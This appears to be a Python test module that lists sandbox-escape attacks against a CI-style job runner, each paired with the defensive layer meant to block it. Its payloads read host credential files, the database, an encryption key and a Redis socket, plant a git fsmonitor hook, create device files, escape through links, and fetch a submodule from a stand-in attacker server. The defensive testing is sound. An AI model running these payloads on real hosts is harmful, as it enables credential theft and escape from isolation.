"""Attacks on files: of the host, of the store, of other runs; and ways out of the checkout."""

from __future__ import annotations

import hashlib
from typing import Final

from attacks.attack import Attack, Scene, approved_by, box, by, heard, merged_by, said, spoiled, succeeded, took
from attacks.layers import Layer
from attacks.odd_trees import LINK, SUBMODULE, Odd

WRITING: Final = """\
for path in ('@file@', '@folder@/left'):
    try: open(path, 'w').write('mine')
    except OSError: pass
"""
STORE: Final = "for end in ('', '-wal'): loot(read('@data@/headgate.db' + end))"
KEY: Final = "print('said', hashlib.sha256(read('@data@/artifact.key')).hexdigest()[:40], file=sys.stderr)"
OTHERS: Final = """\
import glob
for path in glob.glob('@data@/runs/*/tree/*'): loot(read(path))
"""
REDIS: Final = """\
with socket.socket(socket.AF_UNIX) as queue:
    try:
        queue.connect('@redis@')
        queue.sendall(b'GET job\\r\\n')
        loot(queue.recv(4096))
    except OSError: pass
"""
DEVICES: Final = """\
ours = {'null', 'zero', 'full', 'random', 'urandom', 'tty', 'ptmx', 'console'}
for name in sorted(set(os.listdir('/dev')) - ours):
    path = f'/dev/{name}'
    if stat.S_ISCHR(os.lstat(path).st_mode) or stat.S_ISBLK(os.lstat(path).st_mode): say('device')
"""
MADE: Final = """\
for place in ('@folder@/null', 'null'):
    try:
        os.mknod(place, stat.S_IFCHR | 0o666, os.makedev(1, 3))
        with open(place, 'wb') as device: device.write(b'x')
        say('device')
    except OSError: pass
    finally:
        if os.path.lexists(place): os.unlink(place)
"""
LAID: Final = "os.symlink('@file@', os.environ['HEADGATE_PLAN_DIR'] + '/left')\n" + (
    'print(\'{"changes": [{"address": "a", "action": "create", "after": {}}]}\'); sys.exit()'
)
HARD: Final = """\
try: os.link('@file@', 'mine'); loot(read('mine'))
except OSError: pass
"""
GIT: Final = (
    Odd("dev/stamped/.git/HEAD", "ref: refs/heads/main\n"),
    Odd("dev/stamped/.git/objects/x", ""),
    Odd("dev/stamped/.git/refs/x", ""),
    Odd("dev/stamped/.git/config", '[core]\n\tfsmonitor = "echo said hook >&2; true"\n'),
)


def _read_the_key(scene: Scene) -> bool:
    key = (scene.ground.folder / "data" / "artifact.key").read_bytes()
    return f"said {hashlib.sha256(key).hexdigest()[:40]}" in scene.words


ATTACKS: Final = (
    Attack(
        name="read-a-file-of-the-host",
        tries="read a key that lies in the worker's file system",
        files=box("loot(read('@file@'))"),
        harmed=took("file"),
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="read-the-credentials-files",
        tries="read the files from which the operator's secrets come",
        files=box("for name in ('deploy', 'prod'): loot(read(f'@root@/{name}.key'))"),
        harmed=took("deploy", "prod"),
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="read-a-file-of-somebody-else",
        tries="read a file that only another user of the worker may read, in a directory the operator granted",
        files=box("loot(read('@foreign@'))"),
        harmed=took("foreign"),
        stopped_by=by(Layer.PRIVILEGE),
    ),
    Attack(
        name="read-the-store",
        tries="read Headgate's database",
        files=box(STORE),
        harmed=took("store"),
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="read-the-artifact-key",
        tries="read the key that artifacts and logs are encrypted with",
        files=box(KEY),
        harmed=_read_the_key,
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="read-redis",
        tries="ask the queue's Redis by its socket",
        files=box(REDIS),
        harmed=took("redis"),
        stopped_by=by(Layer.MOUNTS),
        missing=lambda ground: "" if ground.redis else "no redis server here",
    ),
    Attack(
        name="read-another-checkout",
        tries="read the checkout of another run",
        files=box(OTHERS),
        harmed=took("run"),
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="write-a-file-of-the-host",
        tries="overwrite a file of the worker, and leave another beside it",
        files=box(WRITING),
        harmed=spoiled,
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="hard-link-to-the-host",
        tries="give a file of the host a second name in the checkout",
        files=box(HARD),
        harmed=took("file"),
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="open-a-device-of-the-host",
        tries="open the worker's disks and other devices",
        files=box(DEVICES),
        harmed=said("device"),
        stopped_by=by(Layer.MOUNTS),
    ),
    Attack(
        name="make-a-device",
        tries="make a device file and write to it",
        files=box(MADE),
        harmed=said("device"),
        stopped_by=by(Layer.MOUNTS, Layer.PRIVILEGE),
    ),
    Attack(
        name="link-out-of-the-checkout",
        tries="a symbolic link in the repository that points at a file of the host",
        files=box("loot(read('out'))"),
        odd=(Odd("dev/box/out", "@file@", LINK),),
        harmed=took("file"),
        stopped_by=by(Layer.GUARD, Layer.CHECKOUT, Layer.MOUNTS),
    ),
    Attack(
        name="write-through-a-link",
        tries="a tree whose entry is a link that goes up, and a directory too, so that the checkout writes behind it",
        files={},
        odd=(
            Odd("dev/box/odd/root", "../../..", LINK),
            Odd("dev/box/odd/up", "root/../../../../outside", LINK),
            Odd("dev/box/odd/up/left", "mine"),
        ),
        harmed=spoiled,
        stopped_by=by(Layer.CHECKOUT),
    ),
    Attack(
        name="hook-in-a-git-directory",
        tries="a `.git` directory in the tree, whose settings run a program when an honest project calls git",
        files={},
        odd=GIT,
        harmed=said("hook"),
        stopped_by=by(Layer.CHECKOUT),
    ),
    Attack(
        name="spelt-like-a-git-directory",
        tries="a directory that only some file systems take for `.git`",
        files={},
        odd=(Odd("dev/box/.GIT/config", "x"), Odd("dev/box/sub/git~1/config", "x")),
        harmed=succeeded,
        stopped_by=by(Layer.CHECKOUT),
    ),
    Attack(
        name="names-that-collide",
        tries="two names that some file systems take for one, so that another file is run than was read",
        files={},
        odd=(Odd("dev/box/Plan.py", "x"), Odd("dev/box/PLAN.py", "x")),
        harmed=succeeded,
        stopped_by=by(Layer.CHECKOUT),
    ),
    Attack(
        name="submodule-of-an-attacker",
        tries="a submodule, for the worker to fetch from the attacker's server",
        files={".gitmodules": '[submodule "x"]\n\tpath = dev/box/x\n\turl = http://127.0.0.1:@tcp@/x.git\n'},
        odd=(Odd("dev/box/x", "1234567890" * 4, SUBMODULE),),
        harmed=heard("tcp"),
        stopped_by=by(Layer.WRITER),
    ),
    Attack(
        name="filter-of-the-workers-git",
        tries="a filter that the worker's git knows (git-crypt, LFS), set on a file of the change to decrypt it",
        files={
            **box("loot(read('sealed'))"),
            "dev/box/.gitattributes": "sealed filter=decrypt\n",
            "dev/box/sealed": "x",
        },
        harmed=took("file"),
        stopped_by=by(Layer.GUARD, Layer.WRITER),
    ),
    Attack(
        name="link-among-the-plans-files",
        tries="leave a link to a file of the host among the plan's files, and find its content when applying",
        files={
            **box(LAID),
            "dev/box/apply.py": box("loot(read(os.environ['HEADGATE_PLAN_DIR'] + '/left'))")["dev/box/plan.py"],
        },
        steps=(approved_by("bo"), merged_by("ann")),
        harmed=took("file"),
        stopped_by=by(Layer.LEAVINGS),
    ),
)
